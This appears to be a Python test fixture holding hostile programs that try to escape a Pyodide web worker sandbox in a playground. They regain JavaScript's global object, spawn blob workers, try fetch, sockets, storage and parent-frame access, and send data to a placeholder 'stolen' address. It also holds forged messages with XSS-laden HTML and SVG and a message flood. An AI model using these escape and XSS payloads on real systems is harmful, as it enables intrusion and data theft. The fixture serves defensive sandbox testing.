"""Programs that a stranger might put into a link, for test_playground.py: each tries to get out of its worker.

Python hides JavaScript's global object from a program; `capture_this` of Pyodide gets it back, so these programs have
all that JavaScript has in a worker. What holds them must therefore be the frame's origin and its policy.
"""

import json
from pathlib import Path

# `this` is the worker's global object; the attack gets it when the program has ended
GLOBAL = """
import js
from pyodide.ffi import create_proxy

def with_global(attack):
    js.setTimeout(create_proxy(lambda this, *_: attack(this), capture_this=True), 0)
"""

ATTACKS = Path(__file__).with_name("hostile.js")  # in a worker of its own, which a blob starts


def reaching_out(*addresses: str) -> str:
    """A program that tries every way to a server, to storage, and to the page, with all of JavaScript."""
    attacks = ATTACKS.read_text(encoding="utf-8").replace("ADDRESSES", json.dumps(addresses), 2)
    return GLOBAL + REACHING_OUT.replace("ATTACKS", repr(attacks))


REACHING_OUT = """
def attack(this):
    from pyodide.ffi import to_js
    kind = to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
    blob = this.Blob.new(to_js([ATTACKS]), kind)
    worker = this.Worker.new(this.URL.createObjectURL(blob))
    worker.onmessage = create_proxy(lambda event: print(event.data))
    worker.onerror = create_proxy(lambda event: print("end: no worker", event.message))
    global kept
    kept = worker

with_global(attack)
"""


def by_python(address: str) -> str:
    """A program that tries Python's own ways, and those that Pyodide offers. Each line that succeeds prints GOT OUT."""
    return f"""
def attempt(name, way):
    try:
        print("GOT OUT", name, repr(way())[:80])
    except BaseException as error:
        print("refused", name, type(error).__name__)

address = {address!r}
import socket, urllib.request
attempt("urlopen", lambda: urllib.request.urlopen(address + "stolen?urlopen", timeout=2).read())
def by_socket():
    with socket.create_connection(("127.0.0.1", int(address.split(":")[2].split("/")[0])), 2) as to:
        to.sendall(b"GET /stolen?socket HTTP/1.0\\r\\n\\r\\n")
        return to.recv(10) or 1 / 0
attempt("socket", by_socket)
def by_js():
    import js
    return js.fetch
attempt("js.fetch", by_js)
def by_storage():
    import js
    return js.localStorage
attempt("js.localStorage", by_storage)
def by_run_js():
    from pyodide.code import run_js
    return run_js("fetch('" + address + "stolen?run_js')")
attempt("run_js", by_run_js)
def by_open_url():
    from pyodide.http import open_url
    return open_url(address + "stolen?open_url")
attempt("open_url", by_open_url)
def by_constructor():
    import js
    return js.Object.constructor("return self")()
attempt("constructor", by_constructor)
def by_document():
    import js
    return js.document
attempt("document", by_document)
def by_parent():
    import js
    return js.parent
attempt("parent", by_parent)
import pyodide_js
pyodide_js.loadPackage(address + "stolen-1-py3-none-any.whl")
"""


WRONG_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='300' height='300' onload='parent.stolen=1'>"
    "<desc>d</desc><script>parent.parent.stolen=1</script>"
    "<foreignObject width='300' height='300'><body xmlns='http://www.w3.org/1999/xhtml'>"
    "<img src='x' onerror='parent.stolen=1'/><iframe src='ADDRESSstolen?frame'></iframe></body></foreignObject>"
    "<image href='ADDRESSstolen?image' width='9' height='9'/><use href='ADDRESSstolen?use#a'/>"
    "<style>@import url(ADDRESSstolen?style); rect { fill: url(ADDRESSstolen?fill#a) }</style>"
    "<a href='javascript:parent.stolen=1'><text x='9' y='20' onclick='parent.stolen=1'>click</text></a>"
    "<rect width='50' height='50' style='fill:url(ADDRESSstolen?attribute#a)'/></svg>"
)


def forging(address: str) -> str:
    """A program that sends messages of its own in place of ours: pictures with scripts, HTML, wrong types."""
    return GLOBAL + FORGING.replace("SVG", repr(WRONG_SVG.replace("ADDRESS", address)))


FORGING = """
import json
from pyodide.ffi import to_js

svg = SVG
html = "<img src=x onerror='window.stolen=1'><script>window.stolen=1</script><b>bold</b>"
event = {"part": "forward", "words": html, "now": [], "set": {"n0": {"look": "plain"}}, "code": [0, 0, 1]}
names = "restart back play next step speed predict shown wrong waits picture check show field code label of forward "
words = dict.fromkeys((names + "backward end pause again empty right").split(), html)
steps = {"svg": svg, "prefix": "p", "events": [event, event], "code": [[html, 1, html]], "first": 0, "predict": False}
steps |= {"lang": "en", "title": html, "rows": ["a", "b"], "words": words}
clinic = {"happened": html, "lines": [[html, html, html, 1]], "tensors": [[html, html]], "cures": [html]}
forged = {
    "picture": {"svg": svg, "alt": html},
    "graph": {"names": [html], "chosen": html, "svg": svg, "alt": html, "steps": json.dumps(steps)},
    "steps": {"steps": json.dumps(steps)},
    "plot": {"name": "x", "png": "PHN2Zz4=", "alt": html, "width": html, "height": -1},
    "ran": {"error": html, "name": html, "line": "1e9", "clinic": clinic | {"svg": svg, "alt": html}},
}

def attack(this):
    def post(**message):
        this.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
    for data in (None, 3, "[", "null", "[]", '{"steps": 3}', '{"steps": "{"}', '{"names": 3}', '{"png": "%"}'):
        for kind in ("graph", "steps", "plot", "picture", "ran", "clear", "text", "stopped", "lost", "__proto__", None):
            post(kind=kind, data=data, text=data)
    for kind, data in forged.items():
        post(kind=kind, data=json.dumps(data))
    post(kind="text", text=html, error=True)
    post(kind="text", text="forged all")

with_global(attack)
"""


FLOOD = (
    GLOBAL
    + """
def attack(this):
    while True:
        this.postMessage("x" * 10_000)

with_global(attack)
"""
)
